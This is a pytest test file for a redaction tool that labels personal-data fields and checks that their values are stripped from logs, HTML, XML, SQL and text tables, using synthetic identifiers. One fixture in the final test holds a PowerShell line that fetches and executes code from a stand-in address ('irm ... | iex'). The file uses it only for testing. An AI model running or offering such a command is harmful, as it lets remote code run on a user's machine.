"""A field is a name and a value, in whatever layout the two stand."""

from __future__ import annotations

import pytest

from wardline.screen import keys, screen


def shown(text: str) -> str:
    return screen(text).text


@pytest.mark.parametrize(
    ("name", "label"),
    [
        ("mfgSerialNo", "DEVICE_SERIAL"),
        ("Unit S/N", "DEVICE_SERIAL"),
        ("rendering_npi_number", "LICENSE"),
        ("State Lic", "LICENSE"),
        ("HicNbr", "PLAN_ID"),
        ("enrollee_ident", "PLAN_ID"),
        ("localPatientIdentifier", "MRN"),
        ("EmrId", "MRN"),
        ("Birth Dte", "DOB"),
        ("DtOfSvc", "CARE_DATE"),
        ("date_seen", "CARE_DATE"),
        ("TargetUserName", "USER"),
        ("Target Account", "USER"),
        ("Statement Acct", "ACCOUNT"),
        ("soc sec", "SSN"),
        ("WifiMac", "MAC"),
        ("paciente nombre", "NAME"),
        ("fechaNacimiento", "DOB"),
    ],
)
def test_a_field_is_read_by_the_words_of_its_name(name: str, label: str) -> None:
    assert keys.label_of(name) == label


@pytest.mark.parametrize(
    "name",
    [
        "app version",
        "device_type",
        "hash value",
        "remote address",
        "SessionId Length",
        "user count",
        "policy rule id",
        "account type",
        "license edition",
        "tactic id",
        "request id",
        "threat name",
    ],
)
def test_a_field_of_a_system_says_nothing_of_a_person(name: str) -> None:
    assert keys.label_of(name) is None


@pytest.mark.parametrize(
    "text",
    [
        "[localPatientIdentifier QK-4471902] [packageVersion 5.33.4]",
        "Local Patient Id ............. QK-4471902\nEngine ............. 4.1",
        "array(\n  'local patient id' => 'QK-4471902',\n)",
        "<tr><th>Local Patient Id</th><td>QK-4471902</td></tr>",
        '<entry key="localPatientId">QK-4471902</entry>',
        "INSERT INTO stage (id, note, local_patient_id) VALUES (7, 'it''s', 'QK-4471902');",
        (
            "ENGINE  LOCAL_PATIENT_ID   BUILD\n------  -----------------  -----\n"
            "4.1     QK-4471902         77\n"
        ),
        "Engine      Local Patient Id   Birth Date\n4.1         QK-4471902         1961-02-03\n",
        "Local Patient\n    No.\n    QK-4471902\n",
    ],
)
def test_a_value_goes_in_every_layout(text: str) -> None:
    assert "QK-4471902" not in shown(text)


def test_rows_of_a_statement_go_by_their_columns() -> None:
    text = (
        "INSERT INTO t (host_ip, admit_dt, lic_number) VALUES\n"
        "('203.0.113.9', '2021-03-04', '83.114207'),\n('203.0.113.8', '2022-05-06', 'PA90417');"
    )
    out = shown(text)
    assert "203.0.113.9" in out
    assert "203.0.113.8" in out
    for value in ("2021-03-04", "2022-05-06", "83.114207", "PA90417"):
        assert value not in out


def test_what_is_typed_under_a_table_is_no_row_of_it() -> None:
    text = (
        "PAT_NAME        MRN\n--------        ---------\nOKAFOR, ADA     44-81-20-19\n"
        "PS> irm https://203.0.113.77/stage.aspx | iex\n"
    )
    out = shown(text)
    assert "44-81-20-19" not in out
    assert "https://203.0.113.77/stage.aspx" in out
